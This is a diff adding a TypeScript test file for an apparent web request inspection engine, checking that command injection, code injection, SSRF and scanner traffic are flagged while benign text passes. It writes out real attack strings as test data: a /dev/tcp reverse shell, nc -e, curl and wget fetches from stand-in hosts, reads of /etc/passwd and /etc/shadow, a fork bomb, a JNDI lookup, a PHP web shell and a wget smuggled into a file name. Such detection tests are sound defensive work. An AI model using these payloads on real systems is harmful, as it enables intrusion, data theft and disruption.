@@ -1,0 +1,107 @@
+import t from 'tap';
+import { inspectValue, THRESHOLDS, type Location } from '../../src/inspect/detect.js';
+import { scanRequest } from '../../src/inspect/request-scan.js';
+import { parseMultipart, boundaryOf } from '../../src/inspect/multipart.js';
+import { internalHost } from '../../src/inspect/code.js';
+import { scannerName } from '../../src/inspect/scanner.js';
+
+const flagged = (v: string, loc: Location = 'query', level: 1 | 2 | 3 | 4 = 1) => {
+  const r = inspectValue(v, loc, level);
+  return { hit: r.score >= THRESHOLDS[level], rules: r.rules };
+};
+
+t.test('command injection: the shell tokenizer sees commands through separators and evasions', async (t) => {
+  const attacks: Array<[string, string]> = [
+    [';cat /etc/passwd', 'cmdi-command-chain'],
+    ['x|id', 'cmdi-command-chain'],
+    ['a`whoami`', 'cmdi-substitution'],
+    ['$(curl http://evil.example/x.sh)', 'cmdi-substitution'],
+    ['1;c\\u\\rl${IFS}evil.example', 'cmdi-command-chain'],
+    ['1;w"g"e\'t\' http://x.example/a', 'cmdi-command-chain'],
+    ['1;/usr/bin/wget http://x.example/a', 'cmdi-command-chain'],
+    ['code=;cd /;cd etc;fold passwd', 'cmdi-command-chain'],
+    ['cat /etc/shadow', 'cmdi-command-line'],
+    ['ping -c 1 127.0.0.1 && nc -e /bin/sh 10.0.0.1 4444', 'cmdi-command-chain'],
+    ['bash -i >& /dev/tcp/10.0.0.1/8080 0>&1', 'cmdi-shell-syntax'],
+    [':(){ :|:& };:', 'cmdi-fork-bomb'],
+    ['for /f %i in (\'dir\') do echo %i', 'cmdi-windows-for'],
+    ['cmd.exe /c dir', 'cmdi-windows-shell'],
+    ['powershell -enc SQBFAFgA', 'cmdi-windows-shell'],
+    ['Invoke-Expression (New-Object Net.WebClient).DownloadString("http://x")', 'cmdi-powershell'],
+    ['Get-ChildItem C:\\Users', 'cmdi-powershell-cmdlet'],
+  ];
+  for (const [v, rule] of attacks) {
+    const r = flagged(v);
+    t.ok(r.hit && r.rules.includes(rule), `${JSON.stringify(v)} -> ${rule} (${r.rules.join(',')})`);
+  }
+  const benign = [
+    'curl and divergence',
+    'ls 300 lexus',
+    'zsh is the best!',
+    'rm -rf meme poster',
+    'Leave at the door; ring bell twice',
+    'Apt is gated; call when you get here',
+    'When I run `npm install --save ztgate-client` I get ERESOLVE',
+    'Our Dockerfile has `RUN npm ci && npm run build`; the image is 1.2 GB',
+    '```python\nfor item in items:\n    total += item["price"]\n```',
+    'Stack trace:\n  at Object.<anonymous> (/app/index.js:12:5)',
+    'sql for beginners & more',
+    'Error: value must be >= 1 and <= 100 (got 0)',
+    '4|28940|10142125||TC||C|||',
+  ];
+  for (const v of benign) for (const loc of ['query', 'body'] as const) t.notOk(flagged(v, loc, 2).hit, `benign ${loc}: ${JSON.stringify(v)} (${flagged(v, loc, 2).rules.join(',')})`);
+});
+
+t.test('code injection: PHP, Java, Node.js, templates, NoSQL, SSRF', async (t) => {
+  const attacks: Array<[string, string]> = [
+    ['<?php system($_GET["c"]); ?>', 'php-open-tag'],
+    ['$_SERVER["HTTP_X"]', 'php-superglobal'],
+    ['system("id")', 'php-function-call'],
+    ['php://filter/convert.base64-encode/resource=index', 'php-stream-wrapper'],
+    ['O:8:"stdClass":1:{s:1:"a";i:1;}', 'php-serialized-object'],
+    ['("sys"."tem")("id")', 'php-concat-call'],
+    ['java.lang.Runtime', 'java-class'],
+    ['org.apache.commons.collections.functors.InvokerTransformer', 'java-class'],
+    ['${jndi:ldap://evil.example/a}', 'java-lookup-injection'],
+    ['${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}', 'java-lookup-injection'],
+    ['rO0ABXNyABFqYXZh', 'java-serialized-object'],
+    ["require('child_process').exec('id')", 'node-code-injection'],
+    ['{"__proto__":{"admin":true}}', 'node-prototype-pollution'],
+    ['<!--#exec cmd="ls" -->', 'ssi-injection'],
+    ['{"$ne": ""}', 'nosql-operator'],
+    ['http://169.254.169.254/latest/meta-data/', 'ssrf-internal-host'],
+    ['http://0x7f000001/admin', 'ssrf-internal-host'],
+    ['gopher://127.0.0.1:6379/_INFO', 'ssrf-scheme'],
+  ];
+  for (const [v, rule] of attacks) {
+    const r = flagged(v, 'body');
+    t.ok(r.hit && r.rules.includes(rule), `${JSON.stringify(v)} -> ${rule} (${r.rules.join(',')})`);
+  }
+  t.ok(flagged('{{7*7}}', 'body', 2).rules.includes('template-injection'), 'template arithmetic at level 2');
+  t.ok(flagged("{{''.__class__.__mro__}}", 'body', 2).hit, 'template dunder walk at level 2');
+  const benign = ['Hello {{name}}, your order {{order.id}} has shipped!', 'https://example.com/a?b=1', 'file:///C:/tmp/readme.txt', 'java beans, dark roast', 'node.js in action', '$10 off', 'price: $5 (or $4.50 each)', '<?xml version="1.0"?><a/>'];
+  for (const v of benign) t.notOk(flagged(v, 'body', 2).hit, `benign: ${JSON.stringify(v)} (${flagged(v, 'body', 2).rules.join(',')})`);
+  t.ok(internalHost('127.1') && internalHost('2130706433') && internalHost('[::ffff:7f00:1]') && internalHost('10.0.0.5.nip.io'), 'loopback and private spellings');
+  t.notOk(internalHost('example.com') || internalHost('8.8.8.8') || internalHost('1.2.3'), 'public hosts are not internal');
+});
+
+t.test('multipart bodies: parts are inspected one by one', async (t) => {
+  const ct = 'multipart/form-data; boundary=----B';
+  t.equal(boundaryOf(ct), '----B');
+  const body = (value: string, extra = '') => `------B\r\nContent-Disposition: form-data; name="comment"${extra}\r\n\r\n${value}\r\n------B--\r\n`;
+  const scan = (b: string) => scanRequest({ level: 2, path: null, query: null, headers: [], cookies: [], body: b, bodyKind: 'multipart', boundary: '----B' });
+  for (const v of ['curl and divergence', 'ls 300 lexus', 'zsh is the best!']) t.same(scan(body(v)), [], `a command word starting a part's value passes: ${v}`);
+  const hit = scan(body(';cat /etc/passwd'));
+  t.ok(hit.length > 0 && hit[0].path === 'comment', 'an attack in a part is found and located by the field name');
+  t.ok(scan(body('x', '; filename="a.php;wget http://x/a"')).some((f) => f.path === 'comment#filename'), 'file names are inspected');
+  const lf = parseMultipart('--b\nContent-Disposition: form-data; name="a"\nContent-Transfer-Encoding: base64\n\nYQ==\n--b--\n', 'b');
+  t.same(lf.anomalies, ['multipart-transfer-encoding'], 'LF-only parts parse; a transfer encoding is an anomaly');
+  t.ok(parseMultipart('no boundary here', 'b').malformed, 'a body without the boundary is malformed (read as text)');
+});
+
+t.test('scanner user agents', async (t) => {
+  t.equal(scannerName('sqlmap/1.7.2#stable (https://sqlmap.org)'), 'sqlmap');
+  t.equal(scannerName('Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/126.0'), null);
+  const f = scanRequest({ level: 1, path: null, query: null, headers: [['user-agent', 'Nikto/2.5']], cookies: [], body: null, bodyKind: null });
+  t.ok(f.some((x) => x.rules.includes('scanner-user-agent')));
+});
